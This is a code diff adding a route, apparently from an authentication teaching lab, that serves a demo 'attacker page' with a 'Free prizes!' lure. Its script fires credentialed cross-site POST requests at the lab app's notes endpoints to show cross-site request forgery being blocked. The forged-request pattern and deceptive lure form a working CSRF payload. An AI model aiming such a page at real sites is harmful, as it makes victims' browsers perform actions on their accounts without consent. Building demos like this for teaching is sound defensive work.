@@ -1,0 +1,46 @@
+import { getEnv } from "@/lib/env";
+
+// The lab's attacker page: open it on the *other* host (127.0.0.1 when the app is on localhost, or
+// the reverse), which browsers treat as another site. Its script posts to each strategy's notes
+// route on the app, with credentials, as a malicious page would. It can't read the answers (no
+// CORS); the lab shows that nothing was created. Served outside proxy.ts with its own CSP, because
+// a real attacker's page is not bound by ours.
+
+const STRATEGIES = ["session", "jwt", "oauth"] as const;
+
+export async function GET(request: Request) {
+  const target = new URL(getEnv().APP_URL).origin;
+  const here = new URL(request.url).origin;
+  const page = `<!doctype html><html lang="en"><head><meta charset="utf-8">
+<meta name="viewport" content="width=device-width,initial-scale=1"><title>Attacker page (Auth Lab demo)</title>
+<style>body{font-family:system-ui,sans-serif;max-width:40rem;margin:2rem auto;padding:0 1rem;line-height:1.5}
+.banner{border:2px dashed #b91c1c;padding:.75rem;border-radius:.5rem}button{font-size:1rem;padding:.5rem 1rem}</style></head>
+<body><main>
+<p class="banner"><strong>Demo attacker page</strong>, part of Auth Lab's lab. It is served from <code>${here}</code> and attacks <code>${target}</code>.</p>
+<h1>Free prizes!</h1>
+<p>Pressing the button sends, for each strategy, a <code>POST ${target}/api/&lt;strategy&gt;/notes</code> with the browser's cookies, as a cross-site request forgery would.</p>
+<button id="attack" type="button">Claim your prize</button>
+<ol id="log" aria-live="polite"></ol>
+<script>
+const target = ${JSON.stringify(target)};
+const log = (text) => { const li = document.createElement("li"); li.textContent = text; document.getElementById("log").append(li); };
+document.getElementById("attack").addEventListener("click", async () => {
+  for (const strategy of ${JSON.stringify(STRATEGIES)}) {
+    try {
+      // no-cors: the browser sends it (with whatever cookies SameSite allows) but hides the answer.
+      await fetch(target + "/api/" + strategy + "/notes", { method: "POST", mode: "no-cors", credentials: "include",
+        headers: { "content-type": "text/plain" }, body: JSON.stringify({ body: "planted by the attacker page" }) });
+      log(strategy + ": request sent (the answer is hidden from this page)");
+    } catch (error) { log(strategy + ": the browser refused to send it"); }
+  }
+  log("done");
+});
+</script></main></body></html>`;
+  return new Response(page, {
+    headers: {
+      "content-type": "text/html; charset=utf-8",
+      "cache-control": "no-store",
+      "content-security-policy": `default-src 'none'; style-src 'unsafe-inline'; script-src 'unsafe-inline'; connect-src ${target}`,
+    },
+  });
+}
